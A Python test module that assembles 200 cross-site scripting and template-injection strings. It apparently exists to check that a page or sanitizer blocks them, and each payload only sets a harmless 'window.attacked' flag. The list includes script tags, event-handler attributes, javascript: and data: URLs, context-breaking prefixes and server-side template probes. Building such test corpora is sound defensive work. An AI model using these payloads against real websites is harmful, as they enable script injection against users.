"""Two hundred strings that would run, if a page let them: each then says so by `window.attacked`."""

RUN = "window.attacked=true"
_HTML = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src='javascript:parent.{RUN}'>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<style>*{{background:url('javascript:{RUN}')}}</style>",
    f'<div style="background:url(javascript:{RUN})">x</div>',
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<base href='javascript:{RUN}//'>",
    f"<meta http-equiv=refresh content='0;javascript:{RUN}'>",
    f"<marquee onstart={RUN}>x</marquee>",
]
_MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\u0000script:{RUN})".replace("\u0000", ""),
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"![x](javascript:{RUN})",
    f'![x](x"onerror={RUN} )',
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}",
    f"`<script>{RUN}</script>`",
    "{{7*7}}",
    "${7*7}",
    "%s%s%n",
    "{% raw %}{{ config }}{% endraw %}",
    "#{7*7}",
    "<%= 7*7 %>",
]
_BREAKERS = ["", '">', "'>", "</textarea>", "</script>", "</title>", "-->", "]]>", "*/", "`"]
ATTACKS = [f"{breaker}{attack}" for breaker in _BREAKERS for attack in _HTML]
ATTACKS = [*_MARKDOWN, *ATTACKS][:200]
